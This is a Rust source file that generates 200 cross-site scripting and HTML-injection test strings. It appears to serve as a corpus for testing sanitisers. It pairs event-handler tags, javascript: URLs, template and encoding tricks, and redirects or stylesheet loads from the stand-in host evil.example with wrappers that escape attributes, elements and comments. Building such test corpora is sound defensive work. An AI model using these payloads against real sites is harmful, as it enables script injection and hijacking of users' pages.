//! Two hundred texts with which pages are made to run somebody else's script, or to show what is not there.

/// What is tried: elements, attributes, addresses, templates, and ways out of where a text stands.
const CORES: [&str; 40] = [
    "<img src=x onerror=__xss()>",
    "<script>__xss()</script>",
    "<svg onload=__xss()>",
    "<svg><script>__xss()</script></svg>",
    "<iframe src=javascript:parent.__xss()>",
    "<iframe srcdoc='<script>parent.__xss()</script>'>",
    "<body onload=__xss()>",
    "<details open ontoggle=__xss()>",
    "<video><source onerror=__xss()></video>",
    "<audio src=x onerror=__xss()>",
    "<input autofocus onfocus=__xss()>",
    "<select autofocus onfocus=__xss()>",
    "<marquee onstart=__xss()>",
    "<object data=javascript:__xss()>",
    "<embed src=javascript:__xss()>",
    "<a href=javascript:__xss()>click</a>",
    "<form action=javascript:__xss()><button>click</button></form>",
    "<math><mtext><img src=x onerror=__xss()></mtext></math>",
    "<template><img src=x onerror=__xss()></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<noscript><p title=\"</noscript><img src=x onerror=__xss()>\">",
    "<!--><img src=x onerror=__xss()>-->",
    "<![CDATA[<img src=x onerror=__xss()>]]>",
    "<p style=\"background:url(https://evil.example/x)\">",
    "<button formaction=javascript:__xss()>click</button>",
    "<x tabindex=1 onfocus=__xss() id=token>",
    "<IMG SRC=x OnErRoR=__xss()>",
    "javascript:__xss()",
    "data:text/html,<script>__xss()</script>",
    "{{constructor.constructor('__xss()')()}}",
    "${__xss()}",
    "#{__xss()}",
    "';__xss();'",
    "\\u003cimg src=x onerror=__xss()\\u003e",
    "&lt;img src=x onerror=__xss()&gt;",
    "\u{ff1c}script\u{ff1e}__xss()\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-__xss()+ADw-/script+AD4-",
];

/// What stands around it: a way out of an attribute, of an element, of a comment, and what is not seen.
const AROUND: [(&str, &str); 5] = [
    ("", ""),
    ("\">", "<\""),
    ("</textarea></title></script></style>", ""),
    ("\u{202e}\u{2066}", "\u{2069}\u{200b}\u{feff}"),
    ("\u{1b}[31m\u{7f}\u{85}", "\u{1b}[201~\u{0}"),
];

/// All of them.
pub fn all() -> Vec<String> {
    let around =
        |core: &&'static str| AROUND.map(|(before, behind)| [before, core, behind].concat());
    CORES.iter().flat_map(around).collect()
}
